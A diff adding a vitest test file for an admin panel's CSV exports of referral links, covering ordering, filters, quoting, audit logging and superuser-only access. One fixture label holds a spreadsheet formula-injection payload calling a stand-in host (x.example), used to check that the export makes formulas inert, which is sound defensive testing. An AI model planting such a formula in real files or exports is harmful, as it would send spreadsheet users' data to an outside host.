@@ -1,0 +1,124 @@
+import { env } from 'cloudflare:workers'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { auditOf } from '../support/account.ts'
+import { adminRequest, openPanel } from '../support/admin-request.ts'
+import { insertRows, insertUsers } from '../support/referral-rows.ts'
+import { createStaff } from '../support/staff.ts'
+import type { TestStaff } from '../support/staff.ts'
+import { createTestApp } from '../support/test-app.ts'
+
+const test = createTestApp()
+const PEOPLE = 4_500
+const FORMULA = '=HYPERLINK("http://x.example?"&A1,"ok")'
+let superuser: TestStaff
+let ids: number[]
+
+beforeAll(async () => {
+  ids = await insertUsers(PEOPLE)
+  superuser = await createStaff('superuser')
+  const [first, ...others] = ids as [number, ...number[]]
+  await insertRows(
+    'referrals (invitee_id, inviter_id, link_key, method, certainty, created_at)',
+    6,
+    others.map((id, i) => [
+      id,
+      first,
+      'BY11NK',
+      i % 3 === 0 ? 'token' : 'code',
+      i % 7 === 0 ? 'likely' : 'certain',
+      1000,
+    ]),
+  )
+  await insertRows(
+    'referral_links (key, code, user_id, label, created_at, disabled_at)',
+    6,
+    others.map((id, i) => [
+      `F11E${id}`,
+      `file-${id}`,
+      first,
+      i === 5 ? FORMULA : 'Label, "quoted"',
+      1000,
+      i % 10 === 0 ? 5 : null,
+    ]),
+  )
+})
+
+const download = async (path: string) => {
+  const response = await adminRequest(test, superuser)('GET', path)
+  expect(response.status).toBe(200)
+  return response
+}
+
+const decode = (bytes: ArrayBuffer) => new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)
+/** First cells: no file of ours has a line end inside of a cell. */
+const firstCells = (text: string) =>
+  text
+    .trimEnd()
+    .split('\r\n')
+    .map((line) => line.split(',')[0]!.replaceAll('"', ''))
+
+describe('links and referrals as files', () => {
+  it('hold every referral once, newest first, over several pages', async () => {
+    const response = await download('referrals.csv')
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="referrals.csv"')
+    const [heading, ...found] = firstCells(decode(await response.arrayBuffer()))
+    expect(heading).toBe('\uFEFFinvitee_id')
+    expect(found).toEqual(ids.slice(1).map(String).toReversed())
+  })
+
+  it('keep filters, also those that no index serves', async () => {
+    const [, ...found] = firstCells(await (await download('referrals.csv?method=token&certainty=likely')).text())
+    const expected = ids.slice(1).filter((_, i) => i % 3 === 0 && i % 7 === 0)
+    expect(found).toEqual(expected.map(String).toReversed())
+    const links = firstCells(await (await download(`links.csv?state=disabled&owner=${ids[0]}`)).text()).slice(1)
+    expect(links).toHaveLength(450)
+    expect(firstCells(await (await download('links.csv')).text())).toHaveLength(PEOPLE)
+    expect(firstCells(await (await download('links.csv?search=no-such-link')).text())).toHaveLength(1)
+  })
+
+  it('make formulas inert, quote what has to be, and show phones whole', async () => {
+    const text = await (await download('links.csv')).text()
+    expect(text).toContain(`"'${FORMULA.replaceAll('"', '""')}"`)
+    expect(text).toContain('"Label, ""quoted"""')
+    expect(text).toContain(`"'+79180010000"`)
+  })
+
+  it('are recorded before they begin, with their filters and not what was searched for', async () => {
+    await (await download('links.csv?search=file-10007&channel=vk')).text()
+    const event = (await auditOf()).findLast(({ action }) => action === 'list_exported')
+    expect(event).toMatchObject({ actor: 'staff', actor_id: superuser.id })
+    expect(JSON.parse(event!.details!)).toEqual({
+      list: 'links',
+      filter: { state: 'all', channel: 'vk', search: true },
+    })
+  })
+
+  it('come from the pages too, for superusers alone', async () => {
+    const panel = await openPanel(test, 'superuser')
+    const page = await (await panel.get('/admin/links/?state=disabled')).text()
+    expect(page).toContain('name="filter" value="?state=disabled"')
+    const file = await panel.post('/admin/links/export/', { filter: '?state=disabled' })
+    expect(file.headers.get('content-type')).toContain('text/csv')
+    expect(firstCells(await file.text())).toHaveLength(451)
+    const referrals = await panel.post('/admin/referrals/export/', { filter: '?certainty=likely&limit=1' })
+    expect(firstCells(await referrals.text())).toHaveLength(1 + Math.ceil((PEOPLE - 1) / 7))
+    expect((await panel.post('/admin/referrals/export/', { filter: '?method=guess' })).status).toBe(400)
+    for (const role of ['support', 'analyst'] as const) {
+      const other = await openPanel(test, role)
+      expect(await (await other.get('/admin/links/')).text()).not.toContain('/export/')
+      for (const list of ['links', 'referrals'])
+        expect((await other.post(`/admin/${list}/export/`, {})).status).toBe(403)
+    }
+  })
+
+  it('break off where the database does, and never look whole', async () => {
+    const file = (await download('referrals.csv')).body!.getReader()
+    await file.read()
+    await env.DB.prepare('ALTER TABLE referrals RENAME TO referrals_away').run()
+    try {
+      await expect(file.read()).rejects.toThrow('storage_unavailable')
+    } finally {
+      await env.DB.prepare('ALTER TABLE referrals_away RENAME TO referrals').run()
+    }
+  })
+})
